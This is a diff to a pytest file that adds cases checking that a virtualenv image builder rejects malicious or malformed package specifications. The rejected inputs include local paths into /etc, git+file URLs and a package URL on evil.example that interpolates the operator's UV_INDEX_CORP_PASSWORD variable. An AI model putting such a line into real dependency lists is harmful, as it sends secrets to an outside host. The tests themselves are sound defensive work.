@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from tower.errors import Fault, Invalid, Precondition, Unsupported
-from tower.images import uv
+from tower.images import uv, venv
 from tower.images.port import Environment, ImageSpec
 from tower.images.venv import VenvBuilder
 
@@ -102,6 +102,12 @@ async def test_a_package_that_does_not_exist_is_named(builder: VenvBuilder, home
         "a\nb",
         "thing @ file:///etc",
         "thing --hash=1",
+        "thing @ /etc/thing-1-py3-none-any.whl",
+        "thing@ ../other/thing-1-py3-none-any.whl",
+        "thing[extra] @ git+file:///srv/thing",
+        "images/thing-1-py3-none-any.whl",
+        "file:///etc",
+        "thing \\",
         "",
     ],
 )
@@ -109,6 +115,26 @@ async def test_options_and_paths_are_no_packages(builder: VenvBuilder, line: str
     for spec in (ImageSpec(pip_packages=(line,)), ImageSpec(requirements=(line,))):
         with pytest.raises(Invalid, match="not the name of a package"):
             await builder.ready(spec, progress=quiet)
+
+
+async def test_t32_a_package_asks_for_no_variable_of_towers(builder: VenvBuilder) -> None:
+    """The installer would put the password of the operator's index into the URL, and into its error."""
+    for line in ("thing @ https://evil.example/${UV_INDEX_CORP_PASSWORD}/thing-1-py3-none-any.whl", "a$b"):
+        with pytest.raises(Invalid, match="not the name of a package"):
+            await builder.ready(ImageSpec(pip_packages=(line,)), progress=quiet)
+
+
+def test_what_packages_are_called() -> None:
+    lines = (
+        "a",
+        "a==1",
+        "a-b.c_d [x,y] >= 1, < 2 ; python_version < '4'",
+        "a @ https://b.example/a-1-py3-none-any.whl#sha256=0",
+        "a[x]@git+https://b.example/a@v1",
+        "a (>1)",
+        "a # why",
+    )
+    assert venv._checked(ImageSpec(pip_packages=lines)) == lines
 
 
 async def test_code_of_packages_does_not_run_on_the_server(builder: VenvBuilder) -> None:
